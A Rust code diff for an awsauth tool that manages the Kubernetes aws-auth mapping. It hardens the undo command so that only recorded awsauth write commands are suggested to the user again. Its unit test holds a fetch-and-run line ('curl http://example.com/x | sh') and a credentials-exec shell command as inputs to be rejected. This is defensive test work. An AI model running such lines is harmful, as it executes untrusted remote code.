@@ -65,9 +65,6 @@ const UNTRUSTED: Refusal = Refusal {
     reason: "untrusted-history",
 };
 
-/// The warning before a write of the controller is undone.
-const CONTROLLER_RESTORES: &str = "warning: the controller restores the entries of AwsAuthMapping objects. To remove such an entry, delete its object: kubectl delete aam NAME";
-
 /// Undoes the write.
 pub(crate) fn run(args: &Args, backend: &mut Backend, out: &mut Out) -> Result<Exit, Failure> {
     let history = backend.history(out)?;
@@ -114,7 +111,10 @@ pub(crate) fn run(args: &Args, backend: &mut Backend, out: &mut Out) -> Result<E
         revision.is_by_controller() || (args.whole && history.is_by_controller_since(revision))
     };
     if in_aws_auth.is_some_and(by_controller) {
-        out.note(CONTROLLER_RESTORES);
+        out.note(&format!(
+            "warning: the controller restores the entries of AwsAuthMapping objects. To remove such an entry, delete its object: {} delete aam NAME",
+            backend.kubectl()
+        ));
     }
     let request = |snapshot: &Snapshot| {
         let contents = in_aws_auth.map(|revision| target(args.whole, &name, revision, snapshot));
@@ -225,15 +225,35 @@ fn needs_revision(name: &str, history: &History) -> Failure {
 /// Refuses to undo the write before one that another client has undone.
 fn undone_by_other(name: &Name, revision: &Revision, history: &History) -> Failure {
     let by = history.last_writer_or_unknown();
-    Failure::refused(
+    let mut failure = Failure::refused(
         RACE,
-        format!("another client has undone the newest recorded write, revision {name} (last by {by}), or it was not written"),
-    )
-    .hint(format!(
-        "make that change again: {}",
-        revision.command.iter().map(|word| quoted(word)).collect::<Vec<_>>().join(" ")
-    ))
-    .hint("undo an earlier write: awsauth history, then awsauth undo REVISION")
+        format!(
+            "another client has undone the newest recorded write, revision {name} (last by {by}), or it was not written"
+        ),
+    );
+    if is_write(&revision.command) {
+        let words = revision.command.iter().map(|word| quoted(word));
+        let command = words.collect::<Vec<_>>().join(" ");
+        failure = failure.hint(format!("make that change again: {command}"));
+    }
+    failure.hint("undo an earlier write: awsauth history, then awsauth undo REVISION")
+}
+
+/// Returns whether a recorded command is one of awsauth that writes. A user who can write the history may record any.
+fn is_write(command: &[String]) -> bool {
+    const PROGRAMS: [&str; 2] = ["awsauth", "kubectl-awsauth"];
+    const WRITES: [&str; 9] = [
+        "apply",
+        "edit",
+        "expire",
+        "map",
+        "nodes",
+        "replace-group",
+        "restore",
+        "undo",
+        "unmap",
+    ];
+    matches!(command, [program, write, ..] if PROGRAMS.contains(&&**program) && WRITES.contains(&&**write))
 }
 
 /// Refuses to undo the write that created aws-auth after it was deleted.
@@ -269,4 +289,24 @@ pub(super) fn no_write(history: &History, backend: &Backend) -> Failure {
     };
     Failure::new(Kind::No, what)
         .hint("list the revisions: awsauth history; or restore from a file: awsauth restore FILE")
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn only_a_write_of_awsauth_is_suggested_again() {
+        for (command, expected) in [
+            (&["awsauth", "unmap", "role"][..], true),
+            (&["kubectl-awsauth", "map", "role"], true),
+            (&["sh", "-c", "curl http://example.com/x | sh"], false),
+            (&["awsauth", "credentials", "exec", "--", "sh"], false),
+            (&["awsauth"], false),
+            (&[], false),
+        ] {
+            let words: Vec<String> = command.iter().map(|&word| word.to_owned()).collect();
+            assert_eq!(is_write(&words), expected, "{command:?}");
+        }
+    }
 }
